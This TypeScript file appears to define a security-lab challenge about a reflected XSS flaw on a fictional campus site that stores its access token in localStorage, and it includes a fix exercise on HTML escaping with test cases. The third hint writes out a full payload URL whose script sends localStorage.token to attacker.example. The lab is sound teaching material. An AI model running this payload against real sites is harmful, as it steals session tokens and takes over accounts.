import type { Challenge } from '@/lib/lab/challenge'
import { open } from '@/lib/lab/challenges/token-in-local-storage/world'

export const tokenInLocalStorage: Challenge = {
  id: 'token-in-local-storage',
  title: 'A token where scripts find it',
  area: 'tokens',
  summary: 'The page keeps its access token in localStorage, and one page repeats what it is asked.',
  goal: 'Take Alice’s access token out of her browser, and read her note with it from yours.',
  story: [
    'Campus’s pages keep the access token in localStorage, as /app.js shows, so that it is there after a reload.',
    'The search page at /search?q=… repeats the words that one searched for, as HTML. Alice is signed in and opens links that she is sent.',
  ],
  clauses: ['rfc9700-4.10', 'rfc6454-4', 'rfc6265-4.1.2.6'],
  incidents: [
    {
      title: 'Open WebUI, 2025 (CVE-2025-64496)',
      text: 'A model server that somebody had added could send an event that ran as a script in the page. The token lay in localStorage, and with it the whole account.',
      url: 'https://nvd.nist.gov/vuln/detail/CVE-2025-64496',
    },
  ],
  source: 'callback-browser-token',
  hints: [
    'Search for <b>x</b> yourself. What does the page make of it? What else could stand there?',
    'A script of that page may read localStorage.token and send it anywhere. You have a server at attacker.example that writes down what arrives.',
    "Have Alice open https://campus.example/search?q=<script>fetch('https://attacker.example/?t='%2BlocalStorage.token)</script> (a + in an address must be written %2B). Take the token from your server’s log and GET https://api.campus.example/me with it.",
  ],
  requests: [
    { title: 'The page’s script', method: 'GET', url: 'https://campus.example/app.js' },
    { title: 'Search for something', method: 'GET', url: 'https://campus.example/search?q=<b>x</b>' },
    {
      title: 'Ask the API who I am',
      method: 'GET',
      url: 'https://api.campus.example/me',
      headers: [['authorization', 'Bearer …']],
    },
  ],
  victim: { name: 'Alice', opensLinks: true, acts: [] },
  open,
  fix: {
    intro:
      'Two things were wrong. One is where the token is: it moves to a variable, and the page asks for a new one after a reload. The other is yours to mend: make text that a person typed harmless before it stands in HTML.',
    choices: [
      {
        code: "words.replace('<script>', '')",
        isRight: false,
        why: '`<scr<script>ipt>`, `<SCRIPT>`, `<img onerror=…>`: there are more ways than one thinks of.',
      },
      {
        code: 'every & < > " and \' becomes its entity',
        isRight: true,
        why: 'Then it is text, whatever it says. Frameworks do it by themselves, until somebody switches it off.',
      },
      {
        code: "localStorage.setItem('t' + random, token)",
        isRight: false,
        why: 'A script can list everything in the store.',
      },
    ],
    name: 'asText',
    starter: `// words: what somebody typed
// gives: HTML that shows exactly these words, between two tags or in an attribute
function asText(words) {
  return words
}
`,
    cases: [
      {
        title: 'leaves plain words as they are',
        args: ['python for beginners'],
        expected: 'python for beginners',
      },
      {
        title: 'takes the power out of a script',
        args: ['<script>x</script>'],
        expected: '&lt;script&gt;x&lt;/script&gt;',
      },
      { title: 'the ampersand comes first', args: ['a & <b>'], expected: 'a &amp; &lt;b&gt;' },
      { title: 'quotes can’t end an attribute', args: ['" onload="x'], expected: '&quot; onload=&quot;x' },
      { title: 'nor can single ones', args: ["it's"], expected: 'it&#39;s' },
      { title: 'each of them, not only the first', args: ['<<'], expected: '&lt;&lt;' },
    ],
    solution: `const ENTITIES = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' }

function asText(words) {
  return words.replace(/[&<>"']/g, (character) => ENTITIES[character])
}
`,
    why: [
      'A script that runs in the page can do whatever the page can; no place for the token changes that. But it makes a difference what it can carry away: a token from localStorage works elsewhere, and for as long as it lives, when the tab is long closed.',
      'In memory there is a token of five minutes, and no refresh token. The session’s cookie is HttpOnly: no script can read it.',
      'So Campuskey keeps its API token in a variable, escapes everything it shows, and sends a Content-Security-Policy without `unsafe-inline`: an injected script isn’t even run.',
    ],
  },
}
